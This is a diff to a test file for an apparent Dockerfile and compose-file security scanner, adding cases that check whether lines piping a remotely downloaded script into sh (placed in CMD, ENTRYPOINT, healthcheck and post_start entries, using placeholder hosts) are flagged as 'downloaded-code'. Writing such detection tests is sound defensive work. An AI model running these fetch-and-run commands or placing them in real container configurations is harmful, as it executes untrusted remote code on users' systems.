@@ -26,6 +26,11 @@ describe('Dockerfiles', () => {
     ['ARG NODE_VERSION=22', []],
     ['ENV PYTHONHTTPSVERIFY=0', ['certificate-check-off']],
     ['ENV FLASK_DEBUG=1', ['debug-mode']],
+    ['CMD curl -fsSL https://get.tool.example/i.sh | sh', ['downloaded-code']],
+    ['ENTRYPOINT ["/bin/sh", "-c", "curl -fsSL https://get.tool.example/i.sh | sh"]', ['downloaded-code']],
+    ['HEALTHCHECK CMD curl -fsSL https://get.tool.example/i.sh | sh', ['downloaded-code']],
+    ['HEALTHCHECK CMD curl -f http://localhost/ || exit 1', []],
+    ['CMD ["node", "a.js"]', []],
     ['RUN chmod -R 777 /srv', ['excessive-permissions']],
     ['RUN chmod 1777 /tmp && chmod 755 /usr/local/bin/x', []],
     ['USER root', ['excessive-permissions']],
@@ -86,6 +91,11 @@ describe('compose files', () => {
     ['environment: { POSTGRES_HOST_AUTH_METHOD: trust }', ['public-exposure']],
     ['environment: ["NODE_ENV=production"]', []],
     ['command: ["--api.insecure=true"]', ['public-exposure']],
+    ['command: sh -c "curl -s https://x.example/i.sh | sh"', ['downloaded-code']],
+    ['command: serve --port 80', []],
+    ['healthcheck: { test: ["CMD-SHELL", "curl -s https://x.example/i.sh | sh"] }', ['downloaded-code']],
+    ['healthcheck: { test: ["CMD-SHELL", "curl -f http://localhost"] }', []],
+    ['post_start: [{ command: ["sh", "-c", "curl -s https://x.example/i.sh | sh"] }]', ['downloaded-code']],
     ['<<: *base', ['container-escape']],
   ])('%s', (line, expected) => {
     const text = `x-base: &base\n  pid: host\nservices:\n  one:\n    image: a:1\n    ${line}\n`;
